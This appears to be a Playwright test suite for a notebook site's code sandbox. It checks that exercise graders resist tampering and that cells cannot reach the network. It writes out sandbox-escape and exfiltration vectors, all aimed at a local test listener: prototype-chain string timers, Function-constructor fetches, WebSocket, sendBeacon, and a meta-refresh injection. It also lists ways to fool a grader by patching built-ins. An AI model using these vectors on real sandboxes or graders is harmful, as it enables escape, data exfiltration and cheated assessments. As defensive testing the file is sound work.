// The attack suite in the browser: each class of fault, with several vectors, must fail closed
// in a chapter's exercise and cells. (tests/notebook/sandbox.test.ts runs the same classes at
// build time, in the Node thread the build uses; the review page's own attacks are in
// tests/e2e/review.spec.ts.) A local listener proves that nothing leaves the box.
import { expect, test, type Locator, type Page } from '@playwright/test';
import { listen, type Listener } from '../listener.ts';
import { typeCode, watchMetaElements } from './pages.ts';

let server: Listener;
let listener = '';
let hits: string[] = [];

test.beforeAll(async () => {
  server = await listen();
  listener = server.url;
});
test.afterAll(() => server.close());
test.beforeEach(() => {
  server.hits.length = 0;
  hits = server.hits;
});

async function run(page: Page, cell: Locator, code: string) {
  await typeCode(page, cell, code);
  await cell.getByRole('button', { name: 'Run cell' }).click();
  await expect(cell).toHaveAttribute('data-state', /^(ran|error)$/, { timeout: 20_000 });
}

/** Opens an exercise, types `code` as the attempt and presses Check; returns the exercise. */
async function checkAttempt(page: Page, chapter: string, id: string, code: string): Promise<Locator> {
  await page.goto(`/chapters/${chapter}/#exercise-${id}`);
  const exercise = page.locator(`#exercise-${id}`);
  await typeCode(page, page.locator(`#cell-ex-${id}`), code);
  await exercise.getByRole('button', { name: 'Check my answer' }).click();
  // Checking runs the chapter's cells above twice (before and after the attempt): give it time.
  await expect(exercise.getByRole('button', { name: 'Check my answer' })).toBeEnabled({ timeout: 45_000 });
  return exercise;
}

const WRONG = 'function mySigmoidPrime(a: number): number {\n  return 0;\n}\n';

test.describe('an exercise judges the code, whatever the code does', () => {
  // Each vector is added to the wrong answer of "The derivative, from the output"; every one
  // used to pass (or could have) while the checker and the checked code shared one world.
  const vectors: Record<string, string> = {
    'replacing Math.abs': 'Math.abs = (x: number) => 0;',
    'Object.assign on Math': 'Object.assign(Math, { abs: (x: number) => x * 0 });',
    'patching Array.prototype': 'Array.prototype.every = function () { return true; } as any;',
    'a global named check': '(globalThis as any).check = { close: () => true };',
    'a getter on Object.prototype': 'Object.defineProperty(Object.prototype, "pass", { get: () => true });',
    'a timer that patches after the attempt': 'setTimeout(() => { Math.abs = () => 0; }, 0);',
  };
  for (const [name, vector] of Object.entries(vectors)) {
    test(`${name}: the wrong answer still fails`, async ({ page }) => {
      const exercise = await checkAttempt(page, 'the-sigmoid', 'my-sigmoid-prime', `${WRONG}try {\n  ${vector}\n} catch {}\n`);
      await expect(exercise.locator('.nb-checks-summary')).toContainText(/\d+ of \d+ checks passed\./);
      await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
    });
  }

  test('a cell-level check, or check reached from the attempt, is refused with a reason', async ({ page }) => {
    await page.goto('/chapters/the-sigmoid/#exercise-my-sigmoid-prime');
    const exercise = page.locator('#exercise-my-sigmoid-prime');
    const cell = page.locator('#cell-ex-my-sigmoid-prime');
    await typeCode(page, cell, `${WRONG}const check = { close: () => true, that: () => true };`);
    await exercise.getByRole('button', { name: 'Check my answer' }).click();
    // The check runs the chapter's cells above first, while the types start beside it.
    await expect(cell.locator('.nb-error')).toContainText('check belongs to the notebook (it judges exercises), so a cell cannot declare it.', { timeout: 30_000 });
    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
    await typeCode(page, cell, `${WRONG}(check as any).close = () => true;`);
    await exercise.getByRole('button', { name: 'Check my answer' }).click();
    await expect(cell.locator('.nb-error')).toContainText('check is only available in an exercise\'s checks', { timeout: 30_000 });
    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
  });

  test('changing the chapter\'s own objects in place does not make a wrong answer pass', async ({ page }) => {
    // Found by a red team: the checks compare with a1, so make a1 agree with the wrong answer.
    const exercise = await checkAttempt(page, 'feedforward', 'one-neuron', 'a1.data.fill(0.5);\nfunction myNeuron(x: number[], W: any, j: number): number {\n  return 0.5;\n}\n');
    await expect(exercise.locator('.nb-checks-summary')).toContainText(/\d+ of \d+ checks passed\./);
    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
  });

  test('another nn route to what the exercise asks for is withheld on the page too, saying what the attempt may use', async ({ page }) => {
    // Found by a red team: a one-neuron network's prediction is the sigmoid.
    const exercise = await checkAttempt(page, 'the-sigmoid', 'my-sigmoid', [
      'import { createNetwork, predict, fromArray } from "nn";',
      'function mySigmoid(z: number): number {',
      '  const net = createNetwork({ inputSize: 1, layers: [{ size: 1, activation: "sigmoid" }], biases: false });',
      '  net.layers[0].W = fromArray([[1]]);',
      '  return predict(net, fromArray([[z]])).data[0];',
      '}',
    ].join('\n'));
    await expect(exercise).toContainText('createNetwork is withheld in this exercise: from nn its attempt may use only');
    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
  });

  test('a bound function handed over to be called later runs as the attempt in the page too', async ({ page }) => {
    // Found by a red team: a getter or Symbol.toPrimitive that is a bound built-in runs no code
    // of the attempt, so it called what the exercise withholds after the guards were off.
    // Refused now as it is handed back, before any check compares it (checks.ts, refuseOwnCode);
    // tests/notebook/kernel.test.ts still reads such a value past that, to the withheld guard.
    const exercise = await checkAttempt(page, 'the-sigmoid', 'my-sigmoid',
      'function mySigmoid(z: number): number {\n  return { [Symbol.toPrimitive]: neuronOut.bind(null, 1, [z, 0, 0]) } as any;\n}\n');
    await expect(exercise).toContainText('mySigmoid(…) handed the checks an object with its own Symbol.toPrimitive, which would run your code when the checks compare it');
    await expect(exercise.locator('[data-ex-status]')).not.toHaveText('passed');
  });

  test('the right answer still passes', async ({ page }) => {
    const exercise = await checkAttempt(page, 'the-sigmoid', 'my-sigmoid-prime', 'function mySigmoidPrime(a: number): number {\n  return a * (1 - a);\n}\n');
    await expect(exercise.locator('.nb-checks-summary')).toContainText(/^All \d+ checks passed\.$/);
    await expect(exercise.locator('[data-ex-status]')).toHaveText('passed');
  });
});

test.describe('cells reach nothing', () => {
  test('a local listener receives nothing from any way out a cell might try', async ({ page }) => {
    await page.goto('/chapters/what-is-a-neural-network/');
    const cell = page.locator('#cell-count-weights');
    const vectors = [
      // The example: the original timers on the global's prototype, with a string.
      `Object.getPrototypeOf(Object.getPrototypeOf(self)).setTimeout.call(self, 'import("${listener}/proto-timer")', 0)`,
      `(globalThis as any).fetch("${listener}/global-fetch")`,
      `Object.getPrototypeOf(globalThis).constructor.constructor('return fetch("${listener}/ctor")')()`,
      `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.ownerDocument.defaultView.setTimeout('fetch("${listener}/linkedom")', 0)`,
      `new WebSocket("${listener.replace('http', 'ws')}/ws")`,
      // linkedom's defaultView getter, called through the prototype chain (found by a red team).
      [
        'const svg: any = Plot.plot({ marks: [Plot.dot([1], { x: (d: number) => d })] });',
        'let p = Object.getPrototypeOf(svg.ownerDocument), g: any = null;',
        'while (p && !g) { const d = Object.getOwnPropertyDescriptor(p, "defaultView"); if (d && d.get) g = d.get; p = Object.getPrototypeOf(p); }',
        `g.call(svg.ownerDocument).Function('return fetch("${listener}/defaultView")')()`,
      ].join('\n'),
      `(navigator as any).sendBeacon("${listener}/beacon", "x")`,
    ];
    for (const code of vectors) {
      await run(page, cell, code);
      expect(await cell.getAttribute('data-state'), code).toBe('error');
    }
    // A chart that points at another site: the output is shown, the request never made.
    await run(page, cell, `Plot.plot({ marks: [Plot.image([[1, 2]], { src: "${listener}/image" })] })`);
    // The chart is on the page with nothing in it that names the other site, so nothing can
    // load from there later either.
    await expect(cell.locator('[data-output] svg')).toHaveCount(1);
    const named = await page.evaluate((url) => [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => a.value.includes(url)).map((a) => `${el.tagName} ${a.name}`)), listener);
    expect(named).toEqual([]);
    expect(hits).toEqual([]);
  });

  test('even code running outside the compartment, in a worker of the host, cannot load code or connect', async ({ page }) => {
    // Defence in depth: the notebook's worker starts from a blob: URL in public/kernel/host.html
    // and so inherits that document's Content-Security-Policy. The worker's own realm has no eval
    // left for a test to run code in (lockDownHost), so this starts a second blob worker from the
    // same host document, the same way, and runs in it what escaped code would try.
    await page.goto('/chapters/what-is-a-neural-network/');
    await run(page, page.locator('#cell-count-weights'), '1 + 1');
    expect(page.workers().some((w) => /^blob:/.test(w.url()))).toBe(true);
    const host = page.frames().find((f) => new URL(f.url()).pathname.endsWith('/kernel/host.html'));
    expect(host).toBeTruthy();
    const outcome = await host!.evaluate(async (url: string) => {
      const probe = `
        const tries = [];
        const attempt = async (name, go) => { try { await go(); tries.push(name + ': reached'); } catch { tries.push(name + ': blocked'); } };
        await attempt('fetch', () => fetch(${JSON.stringify(url)} + '/escaped-fetch'));
        await attempt('import', () => import(${JSON.stringify(url)} + '/escaped-import.js'));
        await attempt('websocket', () => new Promise((ok, fail) => { const s = new WebSocket(${JSON.stringify(url.replace('http', 'ws'))} + '/escaped-ws'); s.onopen = ok; s.onerror = fail; }));
        // The host's policy allows eval (SES needs it), so a string timer runs: what matters is that
        // its fetch is refused. It runs before the function timer set after it, which then settles
        // with that fetch (or fails at once if the string timer did not run at all).
        await attempt('string timer', () => new Promise((ok, fail) => {
          setTimeout('self.timerFetch = fetch(' + JSON.stringify(${JSON.stringify(url)} + '/escaped-timer') + ')', 0);
          setTimeout(() => (self.timerFetch ? self.timerFetch.then(ok, fail) : fail(new Error('did not run'))), 0);
        }));
        postMessage(tries);`;
      const worker = new Worker(URL.createObjectURL(new Blob([probe], { type: 'text/javascript' })), { type: 'module' });
      return new Promise<string[]>((resolve) => { worker.onmessage = (e) => resolve(e.data); });
    }, listener);
    // Each attempt above ended in the worker, blocked or reached: a request that was made was answered first.
    expect(hits).toEqual([]);
    expect(outcome.every((line) => line.endsWith('blocked')), outcome.join('; ')).toBe(true);
  });

  test('the host document carries the strict policy the worker inherits', async ({ page }) => {
    await page.goto('/chapters/what-is-a-neural-network/');
    await run(page, page.locator('#cell-count-weights'), '1 + 1');
    const frame = page.frames().find((f) => new URL(f.url()).pathname.endsWith('/kernel/host.html'));
    expect(frame).toBeTruthy();
    const csp = await frame!.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("connect-src 'none'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/script-src 'self' 'unsafe-eval' 'wasm-unsafe-eval';/);
  });

  test('a thrown object that looks like an error cannot put markup in the page', async ({ page }) => {
    await page.goto('/chapters/what-is-a-neural-network/');
    const cell = page.locator('#cell-count-weights');
    const before = page.url();
    const metaAdded = await watchMetaElements(page);
    await run(page, cell, `throw { name: "E", message: "<b>m</b>", line: '<meta http-equiv="refresh" content="0;url=${listener}/redirected"><div id="pwned" style="position:fixed;inset:0">x</div>', column: 1 };`);
    // Not an Error, so shown as the value it is: its name and message cannot word the report.
    await expect(cell.locator('.nb-error')).toContainText('Uncaught {name: "E", message: "<b>m</b>", line: "<meta');
    expect(await metaAdded()).toEqual([]); // so no refresh can come
    expect(page.url()).toBe(before);
    expect(await page.locator('#pwned, main meta[http-equiv]').count()).toBe(0);
    expect(hits).toEqual([]);
  });

  test('the build and the page give the same refusals', async ({ page }) => {
    await page.goto('/chapters/what-is-a-neural-network/');
    const cell = page.locator('#cell-count-weights');
    await run(page, cell, 'eval("2+2")');
    await expect(cell.locator('.nb-error')).toContainText('eval is not available in code cells: cells cannot build code from strings; write the code in the cell itself.');
    await run(page, cell, 'typeof fetch + " " + typeof document + " " + typeof (globalThis as any).fetch');
    // The value only: the page may list type errors above it (fetch and document are not
    // declared for cells), once the types have started.
    await expect(cell.locator('[data-output]')).toContainText('"undefined undefined undefined"');
    await expect(cell.locator('.nb-error')).toHaveCount(0);
    await run(page, cell, 'Math.abs = (x: number) => 0;');
    await expect(cell.locator('.nb-error')).toContainText("Cannot assign to read only property 'abs' of object '[object Math]' (the sandbox freezes JavaScript's built-ins");
  });
});
